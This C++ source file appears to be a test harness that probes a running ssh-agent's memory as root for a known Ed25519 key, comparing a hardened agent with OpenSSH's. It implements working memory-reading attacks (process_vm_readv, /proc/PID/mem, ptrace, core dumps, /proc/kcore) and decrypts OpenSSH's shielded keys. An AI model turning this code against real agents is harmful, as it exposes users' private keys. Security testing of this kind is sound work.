// SPDX-License-Identifier: LGPL-2.1-or-later
/*
 * xmem-agent-attack: looks for an Ed25519 private key in a running ssh-agent's
 * memory the way root can, for scripts/demo: against xmem-agent every attack
 * must come back without the key, against OpenSSH's ssh-agent holding the same
 * key (the control) every attack must find it.
 *
 *   xmem-agent-attack --pid PID --key FILE [--expect found|refused] [METHOD...]
 *
 * FILE is the unencrypted openssh-key-v1 file of the key (the attacker knows
 * what to look for: the 32-byte seed). METHODs (default: all of them):
 *   process_vm_readv  process_vm_readv(2) of every readable mapping
 *   proc_mem          pread(2) of /proc/PID/mem over every readable mapping
 *   ptrace            PTRACE_SEIZE + PTRACE_INTERRUPT, then PTRACE_PEEKDATA over
 *                     every writable mapping and the key mappings
 *   core_dump         gcore(1) (gdb, ptrace) of the process, then the core
 *                     file's PT_LOAD segments
 *   kcore             /proc/kcore: every present page of the writable and key
 *                     mappings, by its PFN (/proc/PID/pagemap) at its
 *                     direct-map address (tests/attack/env.cpp's kcore); in
 *                     the default list only when /proc/kcore exists
 * Each method looks for the seed as it is, and for a key under OpenSSH's key
 * shielding (ssh-agent since 8.1 keeps keys encrypted with AES-256-CTR under
 * SHA-512 of a 16 KiB random prekey, sshkey_shield_private()): it looks for
 * the tail of struct sshkey (shielded_private, shielded_len, shield_prekey,
 * shield_prekey_len == 16384), reads the prekey and the blob through the same
 * method, decrypts and looks for the seed in the plaintext. A mapping of
 * exclusive memory ("/secretmem", "/memfd_exclusive:...") whose read fails, or
 * comes back all zero (kcore's answer for a page outside the direct map), is
 * counted as refused.
 *
 * Prints one line per method: "METHOD: found the key (...)" or
 * "METHOD: no key found (...)". Exit status: 0 when every method ended as
 * --expect says (or no --expect), 1 otherwise, 2 for a bad command line or a
 * method that could not run.
 */
#include "env.hpp"

#include <openssl/evp.h>
#include <openssl/sha.h>
#include <sodium.h>

#include <algorithm>
#include <cerrno>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <elf.h>
#include <fstream>
#include <memory>
#include <optional>
#include <sstream>
#include <string>
#include <vector>

#include <fcntl.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

namespace {

using buf = std::vector<std::uint8_t>;

[[noreturn]] void usage_die(const std::string &why)
{
	std::fprintf(stderr, "xmem-agent-attack: %s\n", why.c_str());
	std::exit(2);
}

/* ------------------------------------------------------------------ */
/* The key the attacker looks for                                      */

buf read_seed(const std::string &path)
{
	std::ifstream f(path);
	std::string line, b64;
	while (std::getline(f, line))
		if (line.rfind("-----", 0) != 0)
			b64 += line;
	buf blob(b64.size());
	std::size_t n = 0;
	if (b64.empty() ||
	    sodium_base642bin(blob.data(), blob.size(), b64.data(), b64.size(), "\r", &n,
			      nullptr, sodium_base64_VARIANT_ORIGINAL) != 0)
		usage_die(path + ": not a PEM key file");
	blob.resize(n);
	std::size_t pos = 15; /* "openssh-key-v1\0" */
	auto u32 = [&]() {
		if (pos + 4 > blob.size())
			usage_die(path + ": truncated openssh-key-v1");
		std::uint32_t v = std::uint32_t{blob[pos]} << 24 | std::uint32_t{blob[pos + 1]} << 16 |
				  std::uint32_t{blob[pos + 2]} << 8 | blob[pos + 3];
		pos += 4;
		return v;
	};
	auto str = [&]() {
		std::uint32_t len = u32();
		if (len > blob.size() - pos)
			usage_die(path + ": truncated openssh-key-v1");
		buf s(blob.begin() + static_cast<long>(pos), blob.begin() + static_cast<long>(pos + len));
		pos += len;
		return s;
	};
	if (blob.size() < 15 || std::memcmp(blob.data(), "openssh-key-v1", 15) != 0)
		usage_die(path + ": not an openssh-key-v1 file");
	if (str() != buf{'n', 'o', 'n', 'e'})
		usage_die(path + ": encrypted key");
	str();       /* kdf */
	str();       /* kdf options */
	u32();       /* key count */
	str();       /* public key blob */
	blob = str(); /* private section: check1, check2, type, public key, secret key */
	pos = 0;
	u32(), u32();
	if (str() != buf{'s', 's', 'h', '-', 'e', 'd', '2', '5', '5', '1', '9'})
		usage_die(path + ": not an Ed25519 key");
	str();
	buf sk = str();
	if (sk.size() != 64)
		usage_die(path + ": Ed25519 secret key not 64 bytes");
	return buf(sk.begin(), sk.begin() + 32);
}

/* ------------------------------------------------------------------ */
/* Where the attacker reads from                                       */

struct region {
	std::uintptr_t start, end;
	bool writable;
	std::string path;
	[[nodiscard]] bool exclusive() const
	{
		return path.rfind("/secretmem", 0) == 0 || path.rfind("/memfd_exclusive:", 0) == 0;
	}
};

std::vector<region> live_regions(pid_t pid)
{
	std::ifstream maps("/proc/" + std::to_string(pid) + "/maps");
	if (!maps)
		usage_die("cannot read /proc/" + std::to_string(pid) + "/maps");
	std::vector<region> out;
	std::string line;
	while (std::getline(maps, line)) {
		std::istringstream in(line);
		std::string range, perms, off, dev, inode, path;
		in >> range >> perms >> off >> dev >> inode;
		std::getline(in >> std::ws, path);
		std::uintmax_t a = 0, b = 0;
		if (std::sscanf(range.c_str(), "%jx-%jx", &a, &b) != 2 || perms[0] != 'r' ||
		    path == "[vvar]" || path == "[vsyscall]")
			continue;
		out.push_back({static_cast<std::uintptr_t>(a), static_cast<std::uintptr_t>(b),
			       perms[1] == 'w', path});
	}
	return out;
}

class source
{
public:
	virtual ~source() = default;
	/* Reads [addr, addr + n) into @out; 0 or the errno that refused it. */
	virtual int read(std::uintptr_t addr, std::size_t n, buf &out) = 0;
	/* Only the regions this method reads in full. */
	virtual bool wants(const region &) const { return true; }
	std::vector<region> regions;
};

class vm_readv_source : public source
{
public:
	explicit vm_readv_source(pid_t pid) : pid_(pid) { regions = live_regions(pid); }
	int read(std::uintptr_t addr, std::size_t n, buf &out) override
	{
		out.assign(n, 0);
		iovec local{out.data(), n}, remote{reinterpret_cast<void *>(addr), n};
		ssize_t r = ::process_vm_readv(pid_, &local, 1, &remote, 1, 0);
		if (r < 0)
			return errno;
		out.resize(static_cast<std::size_t>(r));
		return r == 0 ? EIO : 0;
	}

private:
	pid_t pid_;
};

class proc_mem_source : public source
{
public:
	explicit proc_mem_source(pid_t pid)
	{
		regions = live_regions(pid);
		fd_ = ::open(("/proc/" + std::to_string(pid) + "/mem").c_str(), O_RDONLY | O_CLOEXEC);
		if (fd_ < 0)
			err_ = errno;
	}
	~proc_mem_source() override
	{
		if (fd_ >= 0)
			::close(fd_);
	}
	int read(std::uintptr_t addr, std::size_t n, buf &out) override
	{
		if (fd_ < 0)
			return err_;
		out.assign(n, 0);
		ssize_t r = ::pread(fd_, out.data(), n, static_cast<off_t>(addr));
		if (r < 0)
			return errno;
		out.resize(static_cast<std::size_t>(r));
		return r == 0 ? EIO : 0;
	}

private:
	int fd_ = -1, err_ = 0;
};

class ptrace_source : public source
{
public:
	explicit ptrace_source(pid_t pid) : pid_(pid)
	{
		regions = live_regions(pid);
		if (::ptrace(PTRACE_SEIZE, pid, nullptr, nullptr) < 0) {
			err_ = errno;
			return;
		}
		attached_ = true;
		int status = 0;
		if (::ptrace(PTRACE_INTERRUPT, pid, nullptr, nullptr) < 0 ||
		    ::waitpid(pid, &status, __WALL) < 0)
			err_ = errno;
	}
	~ptrace_source() override
	{
		if (attached_)
			::ptrace(PTRACE_DETACH, pid_, nullptr, nullptr);
	}
	bool wants(const region &r) const override { return r.writable || r.exclusive(); }
	int read(std::uintptr_t addr, std::size_t n, buf &out) override
	{
		if (err_)
			return err_;
		out.clear();
		for (std::size_t off = 0; off < n; off += sizeof(long)) {
			errno = 0;
			long w = ::ptrace(PTRACE_PEEKDATA, pid_, addr + off, nullptr);
			if (errno)
				return errno;
			auto *p = reinterpret_cast<const std::uint8_t *>(&w);
			out.insert(out.end(), p, p + std::min(sizeof(long), n - off));
		}
		return 0;
	}
	int err_ = 0;

private:
	pid_t pid_;
	bool attached_ = false;
};

/* A core file's PT_LOAD segments; the live maps name the exclusive ones. */
class core_source : public source
{
public:
	core_source(pid_t pid, const std::string &core)
	{
		std::vector<region> live = live_regions(pid);
		std::ifstream f(core, std::ios::binary);
		data_.assign(std::istreambuf_iterator<char>(f), {});
		if (data_.size() < sizeof(Elf64_Ehdr))
			usage_die("core file " + core + " unreadable");
		Elf64_Ehdr eh;
		std::memcpy(&eh, data_.data(), sizeof(eh));
		for (unsigned i = 0; i < eh.e_phnum; i++) {
			Elf64_Phdr ph;
			std::size_t at = eh.e_phoff + i * sizeof(ph);
			if (at + sizeof(ph) > data_.size())
				break;
			std::memcpy(&ph, data_.data() + at, sizeof(ph));
			if (ph.p_type != PT_LOAD)
				continue;
			region r{ph.p_vaddr, ph.p_vaddr + ph.p_memsz, (ph.p_flags & PF_W) != 0, {}};
			for (const region &l : live)
				if (l.start == r.start)
					r.path = l.path;
			regions.push_back(r);
			segs_.push_back(ph);
		}
		/* A key mapping gcore left out is one it could not read. */
		for (const region &l : live)
			if (l.exclusive() &&
			    std::none_of(regions.begin(), regions.end(),
					 [&](const region &r) { return r.start == l.start; }))
				regions.push_back(l);
	}
	int read(std::uintptr_t addr, std::size_t n, buf &out) override
	{
		for (const Elf64_Phdr &ph : segs_) {
			if (addr < ph.p_vaddr || addr + n > ph.p_vaddr + ph.p_memsz)
				continue;
			std::size_t off = addr - ph.p_vaddr;
			if (off + n > ph.p_filesz || ph.p_offset + off + n > data_.size())
				return EIO; /* not in the core */
			auto b = data_.begin() + static_cast<long>(ph.p_offset + off);
			out.assign(b, b + static_cast<long>(n));
			return 0;
		}
		return EFAULT;
	}

private:
	buf data_;
	std::vector<Elf64_Phdr> segs_;
};

/* Physical memory through /proc/kcore, page by page via pagemap PFNs. */
class kcore_source : public source
{
public:
	explicit kcore_source(pid_t pid) : pid_(pid)
	{
		regions = live_regions(pid);
		kc_ = xattack::kcore::open(why_);
	}
	bool usable(std::string &why) const
	{
		why = why_;
		return kc_.has_value();
	}
	bool wants(const region &r) const override { return r.writable || r.exclusive(); }
	int read(std::uintptr_t addr, std::size_t n, buf &out) override
	{
		const std::uintptr_t page = xattack::page_size();
		out.clear();
		for (std::uintptr_t p = addr & ~(page - 1); p < addr + n; p += page) {
			std::string why;
			buf bytes(page, 0); /* a page not present reads as zeros */
			if (auto pfn = xattack::pfn_of(pid_, p, why)) {
				auto r = kc_->read_phys(*pfn * page);
				if (!r.ok)
					return r.err ? r.err : EIO;
				bytes.assign(r.bytes.begin(), r.bytes.end());
			}
			std::uintptr_t lo = std::max(p, addr), hi = std::min(p + page, addr + n);
			out.insert(out.end(), bytes.begin() + static_cast<long>(lo - p),
				   bytes.begin() + static_cast<long>(hi - p));
		}
		return 0;
	}

private:
	pid_t pid_;
	std::string why_;
	std::optional<xattack::kcore> kc_;
};

/* ------------------------------------------------------------------ */
/* The search                                                          */

bool contains(const buf &hay, const buf &needle)
{
	return std::search(hay.begin(), hay.end(), needle.begin(), needle.end()) != hay.end();
}

/* OpenSSH's shield: key || iv = SHA-512(prekey), AES-256-CTR. */
buf unshield(const buf &prekey, const buf &blob)
{
	std::uint8_t kv[SHA512_DIGEST_LENGTH];
	SHA512(prekey.data(), prekey.size(), kv);
	buf plain(blob.size() + 16);
	int n = 0, m = 0;
	std::unique_ptr<EVP_CIPHER_CTX, void (*)(EVP_CIPHER_CTX *)> ctx(EVP_CIPHER_CTX_new(),
									 EVP_CIPHER_CTX_free);
	if (!ctx || EVP_DecryptInit_ex(ctx.get(), EVP_aes_256_ctr(), nullptr, kv, kv + 32) != 1 ||
	    EVP_DecryptUpdate(ctx.get(), plain.data(), &n, blob.data(), static_cast<int>(blob.size())) != 1 ||
	    EVP_DecryptFinal_ex(ctx.get(), plain.data() + n, &m) != 1)
		return {};
	plain.resize(static_cast<std::size_t>(n + m));
	OPENSSL_cleanse(kv, sizeof(kv));
	return plain;
}

struct verdict {
	bool found = false;
	std::string how;
	int exclusive_maps = 0;
	int exclusive_refused = 0;
	int refused_errno = 0;
	std::size_t bytes_read = 0;
};

verdict search(source &s, const buf &seed)
{
	constexpr std::size_t prekey_len = 16384; /* SSHKEY_SHIELD_PREKEY_LEN */
	verdict v;
	char where[160];
	for (const region &r : s.regions) {
		if (!s.wants(r))
			continue;
		buf data;
		int err = s.read(r.start, r.end - r.start, data);
		if (r.exclusive()) {
			v.exclusive_maps++;
			if (err || std::all_of(data.begin(), data.end(),
					       [](std::uint8_t b) { return b == 0; })) {
				v.exclusive_refused++;
				v.refused_errno = err ? err : EIO;
			}
		}
		if (err)
			continue;
		v.bytes_read += data.size();
		auto hit = std::search(data.begin(), data.end(), seed.begin(), seed.end());
		if (hit != data.end()) {
			std::snprintf(where, sizeof(where), "the seed itself at %#jx in %s",
				      static_cast<std::uintmax_t>(r.start + (hit - data.begin())),
				      r.path.empty() ? "[anon]" : r.path.c_str());
			v.found = true;
			v.how = where;
			return v;
		}
		/* struct sshkey's tail: u_char *shielded_private; size_t shielded_len;
		 * u_char *shield_prekey; size_t shield_prekey_len. */
		for (std::size_t off = 24; off + 8 <= data.size(); off += 8) {
			std::uint64_t q[4];
			std::memcpy(q, data.data() + off - 24, sizeof(q));
			if (q[3] != prekey_len || q[1] == 0 || q[1] > 65536 || q[0] < 4096 || q[2] < 4096)
				continue;
			buf prekey, blob;
			if (s.read(q[2], prekey_len, prekey) || prekey.size() != prekey_len ||
			    s.read(q[0], q[1], blob) || blob.size() != q[1])
				continue;
			buf plain = unshield(prekey, blob);
			bool ok = contains(plain, seed);
			OPENSSL_cleanse(plain.data(), plain.size());
			if (ok) {
				std::snprintf(where, sizeof(where),
					      "unshielded: struct sshkey's shield fields at %#jx, prekey at %#jx, "
					      "%ju-byte shielded key at %#jx",
					      static_cast<std::uintmax_t>(r.start + off - 24),
					      static_cast<std::uintmax_t>(q[2]),
					      static_cast<std::uintmax_t>(q[1]),
					      static_cast<std::uintmax_t>(q[0]));
				v.found = true;
				v.how = where;
				return v;
			}
		}
	}
	return v;
}

} // namespace

int main(int argc, char **argv)
{
	pid_t pid = 0;
	std::string key, expect;
	std::vector<std::string> methods;
	for (int i = 1; i < argc; i++) {
		std::string a = argv[i];
		if ((a == "--pid" || a == "--key" || a == "--expect") && i + 1 < argc) {
			std::string v = argv[++i];
			if (a == "--pid")
				pid = static_cast<pid_t>(std::atoi(v.c_str()));
			else if (a == "--key")
				key = v;
			else
				expect = v;
		} else if (a == "process_vm_readv" || a == "proc_mem" || a == "ptrace" ||
			   a == "core_dump" || a == "kcore") {
			methods.push_back(a);
		} else {
			usage_die("usage: xmem-agent-attack --pid PID --key FILE "
				  "[--expect found|refused] [METHOD...] (unknown '" + a + "')");
		}
	}
	if (pid <= 0 || key.empty() || !(expect.empty() || expect == "found" || expect == "refused"))
		usage_die("--pid PID and --key FILE are needed; --expect is found or refused");
	if (methods.empty()) {
		methods = {"process_vm_readv", "proc_mem", "ptrace", "core_dump"};
		if (::access("/proc/kcore", F_OK) == 0)
			methods.push_back("kcore");
		else
			std::printf("kcore: not tried: no /proc/kcore in this kernel\n");
	}
	if (sodium_init() < 0)
		usage_die("sodium_init failed");
	buf seed = read_seed(key);

	int status = 0;
	for (const std::string &m : methods) {
		std::unique_ptr<source> s;
		std::string core;
		if (m == "process_vm_readv") {
			s = std::make_unique<vm_readv_source>(pid);
		} else if (m == "proc_mem") {
			s = std::make_unique<proc_mem_source>(pid);
		} else if (m == "ptrace") {
			auto p = std::make_unique<ptrace_source>(pid);
			if (p->err_) {
				std::printf("%s: could not stop the process: %s\n", m.c_str(),
					    std::strerror(p->err_));
				status = 2;
				continue;
			}
			s = std::move(p);
		} else if (m == "kcore") {
			auto k = std::make_unique<kcore_source>(pid);
			std::string why;
			if (!k->usable(why)) {
				std::printf("%s: could not run: %s\n", m.c_str(), why.c_str());
				status = 2;
				continue;
			}
			s = std::move(k);
		} else {
			char dir[] = "/tmp/xmem-agent-attack.XXXXXX";
			if (!::mkdtemp(dir))
				usage_die("mkdtemp failed");
			std::string prefix = std::string(dir) + "/core";
			std::string cmd = "gcore -o " + prefix + " " + std::to_string(pid) +
					  " >/dev/null 2>&1";
			core = prefix + "." + std::to_string(pid);
			if (std::system(cmd.c_str()) != 0 || ::access(core.c_str(), R_OK) != 0) {
				std::printf("%s: gcore could not dump the process\n", m.c_str());
				::unlink(core.c_str());
				::rmdir(dir);
				status = 2;
				continue;
			}
			s = std::make_unique<core_source>(pid, core);
			::unlink(core.c_str());
			::rmdir(dir);
		}
		verdict v = search(*s, seed);
		s.reset(); /* detaches ptrace */
		if (v.found) {
			std::printf("%s: found the key (%s)\n", m.c_str(), v.how.c_str());
		} else {
			std::printf("%s: no key found (%zu bytes read; %d exclusive mapping(s), "
				    "%d refused%s%s)\n",
				    m.c_str(), v.bytes_read, v.exclusive_maps, v.exclusive_refused,
				    v.refused_errno ? ": " : "",
				    v.refused_errno ? strerrorname_np(v.refused_errno) : "");
		}
		if (!expect.empty() && v.found != (expect == "found"))
			status = status ? status : 1;
	}
	return status;
}
